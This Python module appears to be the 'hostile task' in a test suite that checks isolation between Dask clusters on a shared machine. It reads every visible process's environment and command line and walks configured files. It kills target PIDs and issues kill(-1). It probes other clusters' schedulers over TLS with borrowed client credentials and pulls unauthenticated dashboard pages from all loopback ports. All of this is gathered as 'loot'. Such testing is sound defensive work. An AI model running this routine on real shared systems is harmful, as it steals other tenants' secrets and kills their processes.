"""What a hostile task does inside a cluster (sent to a worker by value: stdlib only).

It brings back every byte it managed to read, so that the test, not the task,
decides whether a secret was among them.
"""

from __future__ import annotations

import http.client
import os
import signal
import socket
import ssl

_MAX_FILE = 256 * 1024


def _read_tree(path: str, loot: list[str]) -> str:
    """Read ``path`` (a file, or a directory walked recursively); say what happened."""
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
        else:
            with open(path, "rb") as f:
                data = f.read(_MAX_FILE)
            loot.append(data.decode(errors="replace"))
            return f"read {len(data)} bytes"
    except OSError as exc:
        return f"refused ({type(exc).__name__}: {exc.strerror})"
    count = 0
    for root, _dirs, files in os.walk(path, onerror=lambda e: None):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    loot.append(f.read(_MAX_FILE).decode(errors="replace"))
                count += 1
            except OSError:
                continue
    return f"read: listed {len(names)} entries, {count} files readable"


def can_connect(host_port: str) -> bool:
    host, _, port = host_port.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=2):
            return True
    except OSError:
        return False


def _tls_probe(host_port: str) -> str:
    """Talk TLS to another cluster's scheduler with this cluster's own credentials."""
    prefix = "DASK_DISTRIBUTED__COMM__TLS__CLIENT__"
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        ctx.load_cert_chain(os.environ[prefix + "CERT"], os.environ[prefix + "KEY"])
    except (KeyError, OSError) as exc:
        return f"no own credentials ({type(exc).__name__})"
    host, _, port = host_port.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=3) as raw:
            with ctx.wrap_socket(raw) as tls:
                tls.settimeout(3)
                tls.sendall(b"\0" * 8)
                data = tls.recv(1)
                return "TLS session accepted" if data else "closed by the scheduler after handshake"
    except (OSError, ssl.SSLError) as exc:
        return f"refused ({type(exc).__name__})"


def listening_loopback_ports() -> list[tuple[str, int]]:
    """Every listening TCP socket on a loopback address, as ``/proc/net/tcp`` lists them.

    The network namespace is shared, so this names every cluster's ports.
    """
    found = set()
    try:
        with open("/proc/net/tcp") as f:
            lines = f.read().splitlines()[1:]
    except OSError:
        return []
    for line in lines:
        fields = line.split()
        local, state = fields[1], fields[3]
        if state != "0A":  # TCP_LISTEN
            continue
        hex_ip, hex_port = local.split(":")
        ip = ".".join(str(b) for b in reversed(bytes.fromhex(hex_ip)))
        if ip.startswith("127."):
            found.add((ip, int(hex_port, 16)))
    return sorted(found)


def _fetch_port(host: str, port: int, paths: list[str]) -> list[dict]:
    results = []
    for path in paths:
        conn = http.client.HTTPConnection(host, port, timeout=3)
        try:
            conn.request("GET", path)
            resp = conn.getresponse()
            body = resp.read(64 * 1024)
            outcome = {"status": resp.status, "bytes": len(body)}
            outcome["body"] = body.decode(errors="replace")
        except (OSError, http.client.HTTPException) as exc:
            outcome = {"status": None, "error": type(exc).__name__}
        finally:
            conn.close()
        results.append({"address": f"{host}:{port}", "path": path, **outcome})
        if outcome["status"] is None:
            break  # not HTTP (a TLS listener waits for a handshake): no other path will do
    return results


def fetch_dashboards(paths: list[str]) -> list[dict]:
    """GET each dashboard path on each listening loopback port, without credentials.

    Ports in parallel: on a busy machine there are many, and TLS ones only time out.
    """
    from concurrent.futures import ThreadPoolExecutor

    ports = listening_loopback_ports()
    with ThreadPoolExecutor(max_workers=16) as pool:
        found = pool.map(lambda hp: _fetch_port(hp[0], hp[1], paths), ports)
        return [result for results in found for result in results]


def attack(
    paths: dict[str, str],
    targets: dict[str, list[int]],
    probes: dict[str, str],
    dashboard_paths: list[str],
) -> dict:
    own = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    loot: list[str] = []
    found: dict = {"uid": os.getuid(), "pid": os.getpid(), "visible_pids": own}
    readable = {"environ": 0, "cmdline": 0}
    for pid in own:
        for name in readable:
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    loot.append(f.read().decode(errors="replace"))
                readable[name] += 1
            except OSError:
                continue
    found["environ_readable"] = readable["environ"]
    found["cmdline_readable"] = readable["cmdline"]
    found["reads"] = {what: _read_tree(path, loot) for what, path in paths.items()}
    kills = {}
    for what, pids in targets.items():
        outcomes = []
        for pid in pids:
            if pid in own:  # the same number names one of our own processes here
                outcomes.append(f"{pid}: skipped (own pid number)")
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                outcomes.append(f"{pid}: killed")
            except OSError as exc:
                outcomes.append(f"{pid}: {type(exc).__name__}")
        kills[what] = ", ".join(outcomes)
    try:
        os.kill(-1, signal.SIGKILL)  # everything this uid may signal (never the caller)
        kills["every process it may signal (kill -1)"] = "sent"
    except OSError as exc:
        kills["every process it may signal (kill -1)"] = type(exc).__name__
    found["kills"] = kills
    found["probes"] = {
        what: ("TCP connect ok; " if can_connect(addr) else "TCP refused; ") + _tls_probe(addr)
        for what, addr in probes.items()
    }
    found["dashboards"] = fetch_dashboards(dashboard_paths)
    loot.extend(d.get("body", "") for d in found["dashboards"])
    found["loot"] = "\n".join(loot)
    return found
